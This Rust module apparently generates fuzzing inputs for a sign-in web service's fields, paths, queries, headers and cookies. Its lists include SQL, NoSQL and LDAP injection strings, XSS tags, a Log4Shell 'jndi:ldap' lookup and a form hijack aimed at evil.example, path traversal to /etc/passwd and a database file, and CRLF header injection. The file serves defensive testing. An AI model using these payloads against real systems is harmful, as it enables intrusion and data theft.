//! What hostile people write into fields, addresses and headers.

use crate::kit::dice::Dice;

/// Texts that are read as something else somewhere.
const NASTY: &[&str] = &[
    "",
    " ",
    "0",
    "-1",
    "1e309",
    "99999999999999999999999",
    "NaN",
    "null",
    "undefined",
    "true",
    "[]",
    "{}",
    "{\"$gt\":\"\"}",
    "' OR '1'='1",
    "x'; DROP TABLE users; --",
    "*)(|(uid=*",
    "\\2a",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea><form action=//evil.example>",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "%s%s%n%x",
    "%00",
    "%252e%252e%252f",
    "../../../../etc/passwd",
    "//evil.example",
    "/\\evil.example",
    "javascript:alert(1)",
    "a@b@c@d",
    "@",
    "a@",
    "@contoso.example",
    "a b@contoso.example",
    "\u{202e}txet",
    "\u{feff}\u{200b}\u{2066}",
    "\u{fdfa}\u{fdfa}\u{3316}\u{1d160}",
    "Z\u{351}\u{36b}\u{343}\u{36a}a\u{310}l",
    "ﬀ ß ẞ İ ı \u{130}\u{307}",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "\u{fffd}\u{fffe}\u{10ffff}",
    "٣٤٥٦٧٨",
    "+",
    "&amp;&lt;&#0;",
];

/// Texts that a page of ours would send.
const PLAUSIBLE: &[&str] = &[
    "reset",
    "unlock",
    "mail",
    "text",
    "call",
    "passkey",
    "questions",
    "123456",
    "yes",
    "others",
    "AT",
    "de",
    "/account",
    "//evil.example/account",
    "+43 664 1234567",
    "07700 900123",
    "name@gmial.com",
    "first-pet",
    "00000000-0000-7000-8000-000000000000",
    "marble canyon whisper",
];

/// Signs of one to four bytes, marks, letters that grow when they are folded, and what turns directions.
const SIGNS: &[char] = &[
    'a',
    'Z',
    '7',
    ' ',
    '"',
    '<',
    '&',
    '\'',
    'ä',
    'ß',
    'İ',
    '\u{301}',
    '\u{344}',
    'ﷺ',
    '漢',
    'ｶ',
    '\u{ac00}',
    '\u{202e}',
    '\u{1d160}',
    '😀',
];

/// Lengths around the limits of fields and forms.
const LENGTHS: &[usize] = &[1, 2, 15, 64, 253, 254, 255, 1_000, 1_001, 4_000];

/// A text without control characters: every field takes it or says what is wrong with it.
pub fn text(dice: &mut Dice) -> String {
    match dice.below(8) {
        0 => (*dice.pick(PLAUSIBLE)).to_owned(),
        1 => long(dice),
        2 | 3 => mixed(dice),
        4 => format!("{}{}", dice.pick(PLAUSIBLE), dice.pick(NASTY)),
        5 => dice.number().to_string(),
        _ => (*dice.pick(NASTY)).to_owned(),
    }
}

/// One sign over and over, as long as a limit or a little longer.
pub fn long(dice: &mut Dice) -> String {
    let sign = *dice.pick(SIGNS);
    std::iter::repeat_n(sign, *dice.pick(LENGTHS)).collect()
}

fn mixed(dice: &mut Dice) -> String {
    let length = dice.below(40);
    (0..length).map(|_| *dice.pick(SIGNS)).collect()
}

/// Bytes of any kind.
pub fn bytes(dice: &mut Dice, most: usize) -> Vec<u8> {
    let length = dice.below(most);
    (0..length).map(|_| dice.number() as u8).collect()
}

/// A text as forms and addresses encode it.
pub fn encoded(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// What no form that a browser makes holds between its fields or in them.
const BROKEN: &[&str] = &[
    "%",
    "%%",
    "%zz",
    "%f",
    "%ff",
    "%c3%28",
    "%ed%a0%80",
    "%f4%90%80%80",
    "%c0%80",
    "%00",
    "%0d%0a",
    "%09",
    "%1b",
    "%7f",
    "%c2%85",
    "%u0041",
    "&&&&",
    "&=",
    "&=x",
    ";a=b",
    "&a[b]=1",
    "&a%5b%5d=1",
    "\u{feff}",
    "+%+",
];

/// A piece of a form that cannot be read, or hardly.
pub fn broken(dice: &mut Dice) -> Vec<u8> {
    match dice.below(5) {
        0 => bytes(dice, 40),
        1 => vec![0],
        2 => vec![0xff; 1 + dice.below(3)],
        _ => dice.pick(BROKEN).as_bytes().to_vec(),
    }
}

/// Paths and pieces of them that lead astray where somebody decodes twice or not at all.
pub const PATHS: &[&str] = &[
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%5c..%5cetc",
    "/b/contoso/..%2f..%2f%2e%2e%2fetc%2fpasswd",
    "/b/%00/%ff.css",
    "/b/contoso/%ff%fe",
    "/b/contoso/.css",
    "/report/%00%ff",
    "/welcome/%00%ff",
    "/report/..%2f..%2f/done",
    "/register/%6dail/code",
    "/register/%00/remove",
    "/register/mail%2fcode/code",
    "/register//code",
    "/forgot/code;jsessionid=1",
    "/forgot%2fcode",
    "/demo/outbox/..%2f..%2flatchkey.db",
    "/setup?token=%00",
    "//evil.example/%2e%2e",
    "/%",
    "/%zz",
    "/%c0%ae%c0%ae/",
    "/\u{fffd}\u{202e}",
    "/.well-known/../sign-in",
    "/sign-in/../../../../account",
    "/account/..;/setup",
    "http://evil.example/account",
    "http://evil.example:99999/forgot",
    "http://[::1/sign-in",
    "*",
];

/// Names of parameters that pages read, and some that none reads.
const PARAMETERS: &[&str] =
    &["lang", "realm", "next", "sent", "done", "ended", "token", "other", "set", "x", "", "lang[]"];

/// What the pages are asked for in a query.
const ASKED: &[&str] = &[
    "de",
    "ar",
    "en-XA",
    "xx-Latn-XX-x-y-z",
    "de_AT",
    "zh-TW-u-nu-hanidec",
    "a-------b",
    "contoso.example",
    "fabrikam.example.",
    "FABRIKAM.example",
    "-.-",
    "%2fevil.example",
    "%00",
    "%ff",
    "%0d%0aSet-Cookie:%20x=y",
    "password",
    "saved",
    "%2Fregister%2Fmail%3Fnext%3D%2F",
];

/// A query, with its question mark.
pub fn query(dice: &mut Dice) -> String {
    let pairs: Vec<String> = (0..dice.below(5))
        .map(|_| match dice.below(4) {
            0 => format!("{}={}", dice.pick(PARAMETERS), encoded(&text(dice))),
            _ => format!("{}={}", dice.pick(PARAMETERS), dice.pick(ASKED)),
        })
        .collect();
    format!("?{}", pairs.join("&"))
}

/// Headers that proxies set, browsers send, and attackers write.
const HEADERS: &[&str] = &[
    "X-Forwarded-For: ::1, 127.0.0.1, garbage, 10.0.0.1",
    "X-Forwarded-For: ,,,,",
    "X-Forwarded-Host: evil.example",
    "X-Forwarded-Proto: https",
    "X-Forwarded-Prefix: /%2e%2e",
    "Forwarded: for=\"[::1]:x\";host=evil.example;proto=gopher",
    "X-Real-Ip: 999.999.999.999",
    "X-Original-Url: /setup",
    "X-Rewrite-Url: /account",
    "X-Http-Method-Override: DELETE",
    "X-Request-Id: ../../x",
    "Accept-Language: *;q=0",
    "Accept-Language: de;q=NaN,en;q=-1,ar;q=1e400",
    "Accept-Language: ,;,;q=;q,a-b-c-d-e-f-g-h-i-j-k-l-m-n-o-p,en-u-ca-",
    "Accept-Language: \u{e4}\u{f6}\u{fc}",
    "Accept-Encoding: identity;q=0, *;q=0",
    "Accept-Encoding: br;q=1.0.0, ;;",
    "Accept: application/json",
    "Authorization: Basic OjoA",
    "Authorization: Bearer a.b.c",
    "Range: bytes=0-0,-1,99999999999999999999-",
    "If-None-Match: *",
    "If-Modified-Since: Thu, 99 Foo 9999 99:99:99 GMT",
    "Content-Encoding: gzip",
    "Content-Language: x",
    "Origin: null",
    "Origin: https://evil.example",
    "Referer: \\\\evil.example\\",
    "Sec-Fetch-Site: cross-site",
    "Sec-Fetch-Site: \u{0}",
    "User-Agent: ${jndi:ldap://evil.example}",
    "User-Agent: \u{1f980}",
    "Expect: 100-continue",
    "Upgrade: h2c, x/9",
    "Connection: close, keep-alive, x",
    "Trailer: host",
    "Te: trailers, deflate;q=0.5",
    "Via: 1.1 x, 9.9 y",
    "Proxy-Authorization: Digest username=\"\"",
    "X-Empty:",
];

/// A header line, now and then one that is too long or cannot be read.
pub fn header(dice: &mut Dice) -> Vec<u8> {
    match dice.below(16) {
        0 => format!("X-Long: {}", "a".repeat(dice.below(9_000))).into_bytes(),
        1 => format!("User-Agent: {}", long(dice)).into_bytes(),
        2 => [b"X-Odd: ".to_vec(), bytes(dice, 30)].concat(),
        _ => dice.pick(HEADERS).as_bytes().to_vec(),
    }
}

/// Names of cookies of ours, and values that they never had.
const COOKIES: &[&str] = &["visit", "session", "flow", "realm", "language", "browser", "help", "", "%00"];
const VALUES: &[&str] = &[
    "",
    "x",
    "%00",
    "%ff",
    "\"quoted; x=y\"",
    "fabrikam.example",
    "de",
    "AAAAAAAAAAAAAAAAAAAAAA",
    "K7QF-2MXP",
    "a=b=c",
    "{\"id\":1}",
    "\u{1f36a}",
];

/// A cookie header with foreign and broken cookies.
pub fn cookies(dice: &mut Dice) -> String {
    let cookies: Vec<String> = (0..1 + dice.below(6))
        .map(|_| match dice.below(6) {
            0 => ";=; ==;;".to_owned(),
            1 => format!("latchkey-{}={}", dice.pick(COOKIES), "a".repeat(dice.below(5_000))),
            _ => format!("latchkey-{}={}", dice.pick(COOKIES), dice.pick(VALUES)),
        })
        .collect();
    format!("Cookie: {}", cookies.join("; "))
}
